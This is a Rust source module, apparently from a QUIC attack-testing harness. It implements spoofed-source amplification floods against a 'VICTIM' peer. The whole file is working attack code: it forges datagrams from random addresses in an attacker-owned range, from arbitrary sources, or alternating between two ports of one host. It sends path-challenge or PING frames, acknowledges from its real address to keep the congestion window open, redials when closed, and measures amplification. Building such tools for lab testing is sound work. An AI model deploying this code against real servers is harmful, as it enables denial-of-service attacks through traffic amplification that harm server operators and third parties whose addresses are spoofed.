//! Packets of a connection from addresses that it has not shown to be its own.

use std::{
    net::{Ipv4Addr, SocketAddrV4, UdpSocket},
    thread,
    time::Duration,
};

use anyhow::Result;
use rand::RngExt;

use super::{
    Prepared, VICTIM,
    forger::{Forger, any_source},
    frames,
    peer::{Introduction, Peer},
};
use crate::{attack::catalogue::Amplifying, flood::network};

pub fn amplifying(how: Amplifying) -> Result<Prepared> {
    let mut forger = Forger::new()?;
    let mut peer = Peer::dial(&Introduction::of_a_peer(VICTIM)?)?;
    network::own_all_of(OWNED)?;
    let ears = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, PORT))?;
    ears.set_nonblocking(true)?;
    Ok(Box::new(move |run| {
        run.attacked.begun = 1;
        let mut frames = Vec::new();
        match how {
            Amplifying::Challenges => frames::path_challenge(&mut frames, rand::rng().random()),
            Amplifying::Pings | Amplifying::Turns => frames.push(frames::PING),
        }
        let mut count = 0;
        while run.goes_on() {
            let from = match how {
                Amplifying::Challenges => owned(),
                Amplifying::Pings => any_source(),
                Amplifying::Turns => TURNS[count % TURNS.len()],
            };
            let datagram = peer.packet(&frames);
            forger.send(from, &datagram)?;
            run.sent(1, datagram.len());
            count += 1;
            peer.listen();
            if how == Amplifying::Challenges && count % ACKNOWLEDGE_EVERY == 0 {
                // From its own address, or there would be nothing left of the congestion window.
                peer.listen_at(&ears);
                let mut frames = Vec::new();
                peer.acknowledge(&mut frames);
                let datagram = peer.padded(&frames, SMALLEST);
                peer.send(&datagram);
            }
            if peer.is_closed {
                run.attacked.ended += 1;
                peer = Peer::dial(&Introduction::of_a_peer(VICTIM)?)?;
                run.attacked.begun += 1;
            }
            thread::sleep(EVERY);
        }
        run.attacked.amplified = Some(forger.amplified(run.linger)?);
        Ok(vec![peer])
    }))
}

/// One of the attacker's addresses: it receives there, and does not prove it.
fn owned() -> SocketAddrV4 {
    let [high, low] = rand::rng().random::<u16>().to_be_bytes();
    SocketAddrV4::new(Ipv4Addr::new(198, 19, high, low), PORT)
}

const OWNED: &str = "198.19.0.0/16";

const PORT: u16 = 4003;

const ACKNOWLEDGE_EVERY: usize = 4;

/// A packet without any frame is an error.
const SMALLEST: usize = 40;

/// Two ports of the same host.
const TURNS: [SocketAddrV4; 2] = [
    SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 4001),
    SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 4002),
];

/// Slower than the victim looks, so that each is a change of its own.
const EVERY: Duration = Duration::from_millis(2);
